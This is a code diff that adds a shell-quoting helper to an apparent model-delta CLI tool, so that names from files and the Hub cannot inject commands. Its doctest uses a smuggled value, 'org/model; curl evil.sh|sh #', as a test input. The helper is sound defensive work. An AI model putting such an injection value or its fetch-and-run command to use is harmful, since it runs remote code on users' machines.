@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import difflib
+import shlex
 from collections.abc import Iterable
 from os import PathLike
 
@@ -19,6 +20,17 @@ class NeuzipError(Exception):
         super().__init__(message)
         self.message = message
         self.hint = hint
+
+
+def shell(*words: object) -> str:
+    """A command, or a part of one, to paste into a shell: names from files and from the Hub are quoted.
+
+    Every command that a hint, a result or a model card shows is made here.
+
+    >>> shell("neuzip", "apply", "tuned.delta", "--base", "org/model; curl evil.sh|sh #")
+    "neuzip apply tuned.delta --base 'org/model; curl evil.sh|sh #'"
+    """
+    return shlex.join(map(str, words))
 
 
 class UsageError(NeuzipError):
